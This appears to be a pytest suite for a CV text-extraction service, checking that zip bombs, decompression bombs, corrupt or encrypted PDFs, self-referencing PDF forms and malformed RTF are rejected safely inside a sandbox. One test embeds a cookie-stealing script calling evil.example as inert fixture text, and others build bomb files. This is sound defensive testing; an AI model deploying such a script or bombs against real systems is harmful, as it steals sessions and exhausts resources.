"""Hostile files: each is rejected with the right code, within bounded time and memory, never a crash."""

import io
import os
import time
import zipfile
import zlib

import pytest
from pypdf import PdfReader, PdfWriter

from core.extraction import sandbox
from core.extraction.errors import ExtractionError
from core.extraction.filetypes import FileType, sniff
from core.extraction.limits import Limits
from core.extraction.sandbox import run_isolated
from core.extraction.text import extract_text
from tests.cvgen.layouts import LAYOUTS
from tests.cvgen.render_rawpdf import raw_pdf, text_line
from tests.cvgen.render_samples import sample_profile

pytestmark = pytest.mark.sqlite

MiB = 1024 * 1024


@pytest.fixture(scope="module")
def cv_pdf(tmp_path_factory) -> bytes:
    return LAYOUTS["pdf_sidebar"](sample_profile(), tmp_path_factory.mktemp("hostile") / "cv").read_bytes()


def failure(data: bytes, file_type: FileType | None = None, **kwargs) -> ExtractionError:
    """The error sniffing (when no type is given) or extracting ``data`` raises."""
    with pytest.raises(ExtractionError) as caught:
        extract_text(io.BytesIO(data), file_type or sniff(io.BytesIO(data)), **kwargs)
    return caught.value


def test_zip_bomb_docx_is_corrupt_at_sniffing_and_at_extraction():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"<w:document>" + b" " * 12_000_000 + b"</w:document>")
    bomb = buffer.getvalue()
    assert failure(bomb).code == "corrupt_file"
    assert failure(bomb, FileType.DOCX).code == "corrupt_file"


@pytest.mark.parametrize("fraction", [0.1, 0.5, 0.9])
def test_truncated_pdf_is_corrupt(cv_pdf, fraction):
    assert failure(cv_pdf[: int(len(cv_pdf) * fraction)]).code == "corrupt_file"


def test_pdf_header_followed_by_garbage_is_corrupt():
    assert failure(b"%PDF-1.7\n" + bytes(range(256)) * 1000).code == "corrupt_file"


def test_password_protected_pdf_is_encrypted(cv_pdf):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(cv_pdf)))
    writer.encrypt(user_password="s3cret", owner_password="owner", algorithm="AES-256")
    locked = io.BytesIO()
    writer.write(locked)
    error = failure(locked.getvalue())
    assert (error.code, error.message) == ("encrypted", "The PDF is password-protected.")


def test_pdf_with_only_an_owner_password_is_read(cv_pdf):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(cv_pdf)))
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    protected = io.BytesIO()
    writer.write(protected)
    assert "Harriet Quinlan" in extract_text(io.BytesIO(protected.getvalue()), FileType.PDF).text


def test_jpeg_renamed_to_pdf_is_named_at_sniffing(tmp_path):
    fake = tmp_path / "cv.pdf"
    fake.write_bytes(b"\xff\xd8\xff\xe1\x00\x16Exif\x00\x00" + bytes(500))
    with pytest.raises(ExtractionError) as caught:
        sniff(fake)
    assert (caught.value.code, "JPEG image" in caught.value.message) == ("unsupported_type", True)
    assert failure(fake.read_bytes(), FileType.PDF).code == "corrupt_file"  # forced through: still no crash


def test_html_and_script_in_a_text_cv_are_just_text():
    cv = ("<html><script>fetch('http://evil.example/'+document.cookie)</script>\n"
          "<h1>Harriet Quinlan</h1> Class teacher with ten years in Leeds primary schools.\n") * 5  # fmt: skip
    document = extract_text(io.BytesIO(cv.encode()), sniff(io.BytesIO(cv.encode())))
    assert "<script>fetch('http://evil.example/'+document.cookie)</script>" in document.text


def test_operator_flood_stops_at_the_time_budget():
    flood = raw_pdf(b"q Q " * 2_500_000, compress=False)  # a 10 MB content stream with no text
    started = time.monotonic()
    error = failure(flood, limits=Limits(soft_seconds=0.5))
    assert error.code == "corrupt_file"
    assert time.monotonic() - started < 5


def test_hard_deadline_kills_a_stuck_extraction():
    flood = raw_pdf(b"q Q " * 2_500_000)
    error = failure(flood, FileType.PDF, limits=Limits(soft_seconds=60, hard_seconds=0.5))
    assert (error.code, "time and memory limits" in error.message) == ("corrupt_file", True)


def test_decompression_bomb_stays_within_the_memory_limit():
    inflater = zlib.compressobj(9)
    bomb = (
        b"".join(inflater.compress(bytes(16 * MiB)) for _ in range(24)) + inflater.flush()
    )  # 384 MiB of NULs
    error = failure(
        raw_pdf(b"", encoded=bomb), FileType.PDF, ocr=False, limits=Limits(memory_bytes=128 * MiB)
    )
    assert (error.code, error.message) == ("corrupt_file", "The document needs too much memory to process.")


def test_text_flood_keeps_a_capped_prefix():
    flood = raw_pdf(
        b"BT /F1 10 Tf 50 700 Td " + b"(Curriculum vitae text line) Tj 0 -1 Td " * 100_000 + b"ET"
    )
    document = extract_text(io.BytesIO(flood), FileType.PDF, limits=Limits(max_chars=200_000))
    assert len(document.text) <= 60_000
    assert any("budget spent" in warning for warning in document.warnings)


def test_form_xobject_that_draws_itself_does_not_recurse_forever():
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 500 500] /Resources << /XObject << /X 1000 0 R >> >> /Length 6 >>\nstream\n/X Do\nendstream"
    pdf = raw_pdf(b"/X Do\n" + text_line(72, 700, "Text beside a looping form " * 12), compress=False,
                  extra_objects=[form], xobjects=b"/XObject << /X 1000 0 R >>")  # fmt: skip
    assert "looping form" in extract_text(io.BytesIO(pdf), FileType.PDF, ocr=False).text


@pytest.mark.parametrize("rtf", [
    b"{\\rtf1 " + b"{" * 50_000 + b"deep" + b"}" * 50_000 + b"}",
    b"{\\rtf1\\ansi " + b"\\par " * 200_000 + b"}",
    b"{\\rtf1 \\u99999999999? \\'zz \\bin5 }",
])  # fmt: skip
def test_malformed_rtf_gives_a_coded_error_or_text(rtf):
    try:
        extract_text(io.BytesIO(rtf), FileType.RTF)
    except ExtractionError as error:
        assert error.code in ("corrupt_file", "no_text_layer")


def test_isolated_child_reports_results_errors_and_crashes():
    assert run_isolated(sum, [1, 2, 3], limits=Limits()) == 6
    with pytest.raises(ExtractionError) as caught:
        run_isolated(int, "not a number", limits=Limits())
    assert (caught.value.code, caught.value.detail.startswith("ValueError")) == ("corrupt_file", True)
    with pytest.raises(ExtractionError) as caught:
        run_isolated(bytearray, 2048 * MiB, limits=Limits(memory_bytes=256 * MiB))
    assert caught.value.code == "corrupt_file"
    with pytest.raises(ExtractionError) as caught:
        run_isolated(time.sleep, 30, limits=Limits(hard_seconds=0.3))
    assert caught.value.code == "corrupt_file"


def test_isolation_can_be_turned_off_with_the_same_error_mapping():
    with pytest.raises(ExtractionError) as caught:
        run_isolated(int, "x", limits=Limits(isolate=False))
    assert caught.value.code == "corrupt_file"


def test_sandbox_child_is_reused_and_replaced_after_it_is_killed():
    limits = Limits()
    first = run_isolated(os.getpid, limits=limits)
    assert first != os.getpid()
    assert run_isolated(os.getpid, limits=limits) == first
    with pytest.raises(ExtractionError):
        run_isolated(time.sleep, 30, limits=Limits(hard_seconds=0.3))
    assert run_isolated(os.getpid, limits=limits) not in (first, os.getpid())


def test_sandbox_child_does_not_hold_the_parents_descriptors(tmp_path):
    with open(tmp_path / "socket-stand-in", "wb") as held:
        sandbox.shutdown()  # the next job forks a new child while ``held`` is open
        with pytest.raises(ExtractionError) as caught:
            run_isolated(os.fstat, held.fileno(), limits=Limits())
    assert caught.value.detail.startswith("OSError")
